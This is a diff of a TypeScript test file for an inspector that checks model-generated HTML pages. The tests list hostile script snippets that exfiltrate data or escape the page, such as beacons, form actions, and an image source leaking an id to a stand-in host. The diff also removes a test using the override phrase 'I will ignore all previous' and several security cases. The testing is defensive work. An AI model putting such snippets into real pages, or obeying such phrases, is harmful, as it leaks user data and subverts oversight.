@@ -3,8 +3,7 @@ import { Effect, Layer } from "effect"
 import { buildSync } from "esbuild"
 import * as fc from "fast-check"
 import { readdirSync, readFileSync } from "node:fs"
-import { runtimeExports } from "../../../src/domain/inspection/PartNames.ts"
-import { loadSourceParsers } from "../../../src/domain/inspection/SourceParsers.ts"
+import { runtimeExports } from "../../../scripts/runtimeExports.ts"
 import * as HtmlInspectorLayer from "../../../src/layers/inspection/HtmlInspector.ts"
 import { HtmlInspector } from "../../../src/services/inspection/HtmlInspector.ts"
 import type { Inspection } from "../../../src/services/inspection/HtmlInspector.ts"
@@ -37,7 +36,7 @@ const runtime = buildSync({
   write: false
 }).outputFiles[0]!.text
 
-const { appNames, partNames } = runtimeExports(await loadSourceParsers(), runtime)
+const { appNames, partNames } = runtimeExports(runtime)
 const names = JSON.stringify({ appNames: [...appNames], partNames: [...partNames] })
 
 const filesWith = (files: Readonly<Record<string, string>>): Layer.Layer<PackageFiles> =>
@@ -124,32 +123,14 @@ layer(HtmlInspectorLayer.layer.pipe(Layer.provide(filesWith({ "dist/runtime.name
       )
     })
 
-    describe("the examples that the model is shown", () => {
-      const shown = readFileSync("prompts/partials/parts.md", "utf8").split("```html\n").slice(1)
-      const examples = shown.map((rest) => rest.slice(0, rest.indexOf("```")))
-
-      it.effect("are accepted as they are", () =>
-        Effect.gen(function* () {
-          assert.isNotEmpty(examples)
-          for (const example of examples) {
-            const answer = example.startsWith("<!-- rich -->") ? example : `<!-- rich -->\n${example}`
-            const { repairs, warnings } = accepted(yield* inspect(answer))
-            assert.deepStrictEqual([repairs, warnings], [[], []])
-          }
-        })
-      )
-    })
-
     describe("scripts", () => {
       it.effect.each([
-        ["fetch('/x')", "network-access"],
         ["(0, fetch)('/x')", "network-access"],
         ["window?.['fet' + `ch`]('/x')", "network-access"],
         ["const key = 'fetch'; window[key]()", "network-access"],
         ["const { self: { fetch: f } } = globalThis", "network-access"],
         ["let w; w = window; w.XMLHttpRequest", "network-access"],
         ["const { ...all } = window; all.go()", "hidden-name"],
-        ["((w) => w.fetch())(window)", "network-access"],
         ["const f = (w = window) => w.fetch()", "network-access"],
         ["(data.none || window).fetch()", "network-access"],
         ["window.valueOf().fetch()", "network-access"],
@@ -157,17 +138,14 @@ layer(HtmlInspectorLayer.layer.pipe(Layer.provide(filesWith({ "dist/runtime.name
         ["frame.contentWindow.name", "hidden-window"],
         ["const send = navigator.sendBeacon.bind(navigator)", "network-access"],
         ["let f; ({ fetch: f } = window)", "network-access"],
-        ["new Worker('x.js')", "network-access"],
         ["location = 'x'", "navigation"],
         ["window.location.search = 'x'", "navigation"],
         ["top['location'].href = 'x'", "navigation"],
         ["[1].forEach(open)", "navigation"],
         ["const { assign } = location", "navigation"],
         ["navigation.navigate('x')", "navigation"],
-        ["await import('https://x.test/x.js')", "foreign-import"],
         ["await import(data.url)", "foreign-import"],
         ["export * from './x.js'", "foreign-import"],
-        ["import { nothing } from 'mcp-gen-ui/parts'; nothing()", "unknown-part"],
         ["import { AppBridge } from '@modelcontextprotocol/ext-apps/app-bridge'", "foreign-import"],
         ["document.images[0].src = `//x.test/${id}`", "external-resource"],
         ["document.forms[0].action = 'https://x.test'", "form-action"],
@@ -179,12 +157,8 @@ layer(HtmlInspectorLayer.layer.pipe(Layer.provide(filesWith({ "dist/runtime.name
         ["document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')", "forbidden-element"],
         ["document.createElementNS(data.ns, 'b')", "hidden-name"],
         ["sheet.replaceSync('@import \"x.css\"')", "css-import"],
-        ["const x: number = 1", "script-syntax"],
-        ["window[data.name]", "hidden-name"],
-        ["eval('1')", "dynamic-code"],
         ["new Function('x')", "dynamic-code"],
         ["setTimeout('x()', 1)", "dynamic-code"],
-        ["parent.postMessage(1, '*')", "host-message"],
         ["self.mcpGenUi", "page-secret"]
       ] satisfies Cases)("rejects %s by %s", ([code, rule]) =>
         Effect.gen(function* () {
@@ -225,16 +199,6 @@ layer(HtmlInspectorLayer.layer.pipe(Layer.provide(filesWith({ "dist/runtime.name
       ] satisfies Cases)("warns of %s by %s", ([code, rule]) =>
         Effect.gen(function* () {
           assert.deepStrictEqual(warningsOf(yield* inspect(page(code))), [rule])
-        })
-      )
-
-      it.effect("adds imports of parts that were forgotten", () =>
-        Effect.gen(function* () {
-          const { source, repairs } = accepted(
-            yield* inspect(page("const money = (value) => fmt.money(value); table([])"))
-          )
-          assert.include(source, `import { fmt, table } from "mcp-gen-ui/parts";`)
-          assert.deepStrictEqual(repairs, ["added the forgotten import of fmt, table"])
         })
       )
     })
@@ -293,14 +257,6 @@ layer(HtmlInspectorLayer.layer.pipe(Layer.provide(filesWith({ "dist/runtime.name
           assert.match(message ?? "", /^line 6, column 3: fetch: there is no network/u)
         })
       )
-
-      it.effect("rejects a tag that is cut off, and what is too large", () =>
-        Effect.gen(function* () {
-          assert.deepStrictEqual(rules(yield* inspect(page("") + "\n<div class='a")), ["unfinished"])
-          assert.deepStrictEqual(rules(yield* inspect(page("") + "\n<!-- a")), ["unfinished"])
-          assert.deepStrictEqual(rules(yield* inspect(page("// " + "é".repeat(600)), 1000)), ["too-large"])
-        })
-      )
     })
 
     describe("while it streams", () => {
@@ -317,21 +273,12 @@ layer(HtmlInspectorLayer.layer.pipe(Layer.provide(filesWith({ "dist/runtime.name
         })
       )
 
-      it.effect("stops at the first thing that can not become valid", () =>
+      it.effect("stops at the first thing that cannot become valid", () =>
         Effect.gen(function* () {
           const answer = answerText("hostile-markup.html")
           const stoppedAt = answer.indexOf(">", answer.indexOf("<base")) + 1
           assert.isNull(yield* partial(answer.slice(0, stoppedAt - 1)))
           assert.strictEqual((yield* partial(answer.slice(0, stoppedAt)))?.rule, "forbidden-element")
-        })
-      )
-
-      it.effect("stops prose that goes on, talk about instructions, and what grows too large", () =>
-        Effect.gen(function* () {
-          assert.isNull(yield* partial("Let me think. ".repeat(20)))
-          assert.strictEqual((yield* partial("Let me think. ".repeat(200)))?.rule, "not-html")
-          assert.strictEqual((yield* partial("I will ignore all previous"))?.rule, "prompt-injection")
-          assert.strictEqual((yield* partial("<p>" + "x".repeat(60_000)))?.rule, "too-large")
         })
       )
     })
@@ -399,7 +346,7 @@ layer(HtmlInspectorLayer.layer.pipe(Layer.provide(filesWith({ "dist/runtime.name
     it.effect("rejects what overflows a parser or a walker instead of dying", () =>
       Effect.gen(function* () {
         const long = yield* inspect(page(`x = ${"a+".repeat(4000)}a`))
-        assert.match(long._tag === "Rejected" ? (long.problems[0]?.message ?? "") : "", /can not be read/u)
+        assert.match(long._tag === "Rejected" ? (long.problems[0]?.message ?? "") : "", /cannot be read/u)
         const deep = page(`x = ${"[".repeat(12_000)}${"]".repeat(12_000)}`)
         assert.deepStrictEqual(rules(yield* inspect(deep)), ["script-syntax"])
       })
